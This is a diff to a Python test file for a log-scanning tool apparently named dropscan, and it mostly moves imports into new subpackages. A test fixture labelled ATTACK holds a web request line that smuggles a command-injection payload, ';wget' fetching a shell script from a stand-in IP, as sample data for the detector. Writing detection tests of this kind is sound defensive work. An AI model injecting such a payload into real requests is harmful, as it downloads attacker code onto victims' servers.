@@ -17,12 +17,12 @@ import pytest
 
 import dropscan
 from conftest import combined_line, dropscan_main
-from dropscan import report as report_mod
-from dropscan.egress import Destination
-from dropscan.findings import Finding
-from dropscan.lock import exclusive
-from dropscan.render import render
-from dropscan.report import ReportBuilder
+from dropscan.detect.egress import Destination
+from dropscan.detect.findings import Finding
+from dropscan.outputs.render import render
+from dropscan.report import egress_report as report_mod
+from dropscan.report.egress_report import ReportBuilder
+from dropscan.state.lock import exclusive
 
 ATTACK = combined_line("/x?c=;wget%20http://203.0.113.9/a.sh", client="198.51.100.7")
 NORMAL = combined_line("/index.html")
